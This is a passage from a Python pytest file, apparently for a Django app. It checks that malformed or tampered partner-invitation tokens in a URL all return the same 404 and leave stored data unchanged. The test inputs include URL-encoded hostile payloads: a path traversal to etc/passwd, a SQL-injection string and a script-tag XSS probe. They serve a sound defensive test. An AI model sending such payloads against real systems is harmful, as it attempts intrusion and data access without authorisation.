    pytest.param(lambda t: "%ED%A0%80", id="lone-surrogate"),
    pytest.param(lambda t: "%2e%2e%2f%2e%2e%2fetc%2fpasswd", id="path-traversal"),
    pytest.param(lambda t: "'%20OR%20'1'='1", id="sql-looking"),
    pytest.param(lambda t: "%3Cscript%3Ealert(1)%3C%2Fscript%3E", id="markup"),
    pytest.param(lambda t: almost(t, 0), id="first-character-changed"),
    pytest.param(lambda t: almost(t, 21), id="middle-character-changed"),
    pytest.param(lambda t: almost(t, -1), id="last-character-changed"),
    pytest.param(lambda t: t[:-1], id="one-character-short"),
    pytest.param(lambda t: t + "A", id="one-character-long"),
    pytest.param(lambda t: t.swapcase(), id="case-swapped"),
    pytest.param(lambda t: t + "%20", id="trailing-space"),
    pytest.param(lambda t: t + "%00", id="trailing-nul"),
]


@pytest.mark.parametrize("method", ["get", "post"])
@pytest.mark.parametrize("make_token", BAD_TOKENS)
def test_a_bad_partner_token_gets_the_same_404(client, couples_token, make_token, method):
    unknown = client.get("/request/partner/no-such-token-at-all/")
    before = stored()

    path = f"{reverse('intake:request')}partner/{make_token(couples_token)}/"
    response = getattr(client, method)(path, partner_post() if method == "post" else None)

    assert response.status_code == 404
    assert response.content == unknown.content
    assert stored() == before
    assert before["usable invitations"] == 1
